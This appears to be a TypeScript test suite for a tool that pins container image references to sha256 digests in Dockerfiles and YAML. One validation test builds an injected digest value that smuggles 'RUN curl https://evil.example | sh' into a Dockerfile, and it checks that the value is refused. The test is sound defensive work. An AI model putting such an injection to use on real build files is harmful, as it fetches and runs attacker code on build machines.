import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DIGEST_PLACEHOLDER, type DigestFix } from '../../rules/types';
import { createResolver, type Resolver } from '../../server/registry';
import { pinText } from '../../server/registry/pin';
import { REGISTRY_BINARY, seededRegistryForSuite, standardImages, startRegistry } from '../support/registry';
import { requireComponent } from '../support/requirements';

const images = standardImages();

/** The fix a front end attaches: `@${digest}` right after the reference's `occurrence`-th appearance. */
function insertAfter(text: string, reference: string, occurrence = 0, platform?: string): DigestFix {
  let at = -1;
  for (let i = 0; i <= occurrence; i++) at = text.indexOf(reference, at + 1);
  assert.ok(at >= 0, `${reference} not in the text`);
  const end = at + reference.length;
  return {
    kind: 'digest',
    title: `Pin ${reference} to digest`,
    image: reference,
    ...(platform ? { platform } : {}),
    edits: [{ span: { start: end, end }, newText: `@${DIGEST_PLACEHOLDER}` }],
  };
}

/** Counts lookups, to show each distinct image is resolved once. */
function counting(resolver: Resolver): Resolver & { calls: string[] } {
  const calls: string[] = [];
  return {
    calls,
    resolve: (reference, options) => {
      calls.push(reference);
      return resolver.resolve(reference, options);
    },
  };
}

describe('pinText without a network', () => {
  const fixed = (digests: Record<string, string>): Resolver => ({
    resolve: async (reference) => ({ ok: true, reference, canonical: reference, digest: digests[reference], index: false, cached: false }),
  });

  test('two images whose edits overlap: the first is pinned, the second reported, never a mangled file', async () => {
    const text = 'image: a:1\n';
    const end = text.indexOf('\n');
    const fix = (image: string, newText: string): DigestFix => ({ kind: 'digest', title: image, image, edits: [{ span: { start: 7, end }, newText }] });
    const [aa, bb] = [`sha256:${'a'.repeat(64)}`, `sha256:${'b'.repeat(64)}`];
    const result = await pinText(text, [fix('a:1', `a:1@${DIGEST_PLACEHOLDER}`), fix('b:2', `b:2@${DIGEST_PLACEHOLDER}`)], fixed({ 'a:1': aa, 'b:2': bb }));
    assert.equal(result.text, `image: a:1@${aa}\n`);
    assert.deepEqual(result.outcomes[1], { ok: false, image: 'b:2', offset: 7, reason: 'conflict', message: "b:2: its edit at offset 7 clashes with another image's" });
  });

  test('a digest that is not exactly sha256:+64 lower-case hex is refused right before the edit, whatever answered it', async () => {
    const text = 'FROM a:1\nFROM b:2\nFROM c:3\n';
    const injected = `sha256:${'0'.repeat(64)}\nRUN curl https://evil.example | sh`;
    const good = `sha256:${'c'.repeat(64)}`;
    const fixes = ['a:1', 'b:2', 'c:3'].map((image) => insertAfter(text, image));
    const result = await pinText(text, fixes, fixed({ 'a:1': injected, 'b:2': `sha256:${'B'.repeat(64)}`, 'c:3': good }));
    assert.equal(result.text, `FROM a:1\nFROM b:2\nFROM c:3@${good}\n`);
    assert.deepEqual(
      result.outcomes.map((o) => (o.ok ? o.digest : o.message)),
      [
        `a:1: "sha256:${'0'.repeat(64)}\\nRUN curl https://evil.example | sh" is not a sha256 digest; not written`,
        `b:2: "sha256:${'B'.repeat(64)}" is not a sha256 digest; not written`,
        good,
      ],
    );
  });
});

describe('pinning a file against a real registry', () => {
  const suite = seededRegistryForSuite(Object.values(images));

  test('every resolvable image is pinned (tag, quotes and comments kept); the unknown tag is left exactly as it was', async (t) => {
    if (!requireComponent(t, 'docker-registry', REGISTRY_BINARY) || !suite.registry) return;
    const h = suite.registry.host;
    const text = [
      `FROM ${h}/oci/multi:1.0 AS build # the build stage`,
      `FROM "${h}/docker/multi:2.1"`,
      `COPY --from=${h}/team/app/api:1.2.3 /app /app`,
      `FROM ${h}/oci/multi:9.9`,
      '',
    ].join('\r\n');
    const fixes = [
      insertAfter(text, `${h}/oci/multi:1.0`),
      insertAfter(text, `${h}/docker/multi:2.1`),
      insertAfter(text, `${h}/team/app/api:1.2.3`),
      insertAfter(text, `${h}/oci/multi:9.9`),
    ];
    const result = await pinText(text, fixes, createResolver({ cache: false }));
    assert.equal(
      result.text,
      [
        `FROM ${h}/oci/multi:1.0@${images.ociIndex.manifest.digest} AS build # the build stage`,
        `FROM "${h}/docker/multi:2.1@${images.dockerList.manifest.digest}"`,
        `COPY --from=${h}/team/app/api:1.2.3@${images.nested.manifest.digest} /app /app`,
        `FROM ${h}/oci/multi:9.9`,
        '',
      ].join('\r\n'),
    );
    const after = (reference: string): number => text.indexOf(reference) + reference.length;
    assert.deepEqual(result.outcomes, [
      { ok: true, image: `${h}/oci/multi:1.0`, offset: after(`${h}/oci/multi:1.0`), digest: images.ociIndex.manifest.digest, cached: false },
      { ok: true, image: `${h}/docker/multi:2.1`, offset: after(`${h}/docker/multi:2.1`), digest: images.dockerList.manifest.digest, cached: false },
      { ok: true, image: `${h}/team/app/api:1.2.3`, offset: after(`${h}/team/app/api:1.2.3`), digest: images.nested.manifest.digest, cached: false },
      {
        ok: false,
        image: `${h}/oci/multi:9.9`,
        offset: after(`${h}/oci/multi:9.9`),
        reason: 'manifest-unknown',
        message: `${h}/oci/multi:9.9: tag 9.9 not found in ${h}/oci/multi (MANIFEST_UNKNOWN)`,
      },
    ]);
  });

  test('an image used twice is looked up once and pinned in both places', async (t) => {
    if (!requireComponent(t, 'docker-registry', REGISTRY_BINARY) || !suite.registry) return;
    const image = `${suite.registry.host}/oci/single:v4.0.1`;
    const text = `containers:\n  - image: ${image}\n  - image: '${image}' # sidecar\n`;
    const resolver = counting(createResolver({ cache: false }));
    const result = await pinText(text, [insertAfter(text, image, 0), insertAfter(text, image, 1)], resolver);
    const digest = images.ociSingle.manifest.digest;
    assert.equal(result.text, `containers:\n  - image: ${image}@${digest}\n  - image: '${image}@${digest}' # sidecar\n`);
    assert.deepEqual(resolver.calls, [image]);
  });

  test('with usePlatformDigest, a fix that names a platform gets that platform\'s manifest', async (t) => {
    if (!requireComponent(t, 'docker-registry', REGISTRY_BINARY) || !suite.registry) return;
    const image = `${suite.registry.host}/oci/multi:1.0`;
    const text = `FROM --platform=linux/arm64 ${image}\n`;
    const result = await pinText(text, [insertAfter(text, image, 0, 'linux/arm64')], createResolver({ cache: false }), { usePlatformDigest: true });
    assert.equal(result.text, `FROM --platform=linux/arm64 ${image}@${images.ociIndex.platforms['linux/arm64']}\n`);
  });

  test('a stopped registry: nothing is edited, every image says why', async (t) => {
    const binary = requireComponent(t, 'docker-registry', REGISTRY_BINARY);
    if (!binary || !suite.storage) return;
    const own = await startRegistry(binary, { storageDir: suite.storage });
    await own.stop();
    const text = `FROM ${own.host}/docker/single:3\nFROM ${own.host}/oci/single:v4.0.1\n`;
    const fixes = [insertAfter(text, `${own.host}/docker/single:3`), insertAfter(text, `${own.host}/oci/single:v4.0.1`)];
    const result = await pinText(text, fixes, createResolver({ cache: false }));
    assert.equal(result.text, text);
    assert.deepEqual(
      result.outcomes.map((o) => (o.ok ? o.digest : o.message)),
      [
        `${own.host}/docker/single:3: ${own.host} refused the connection (registry down?)`,
        `${own.host}/oci/single:v4.0.1: ${own.host} refused the connection (registry down?)`,
      ],
    );
  });
});
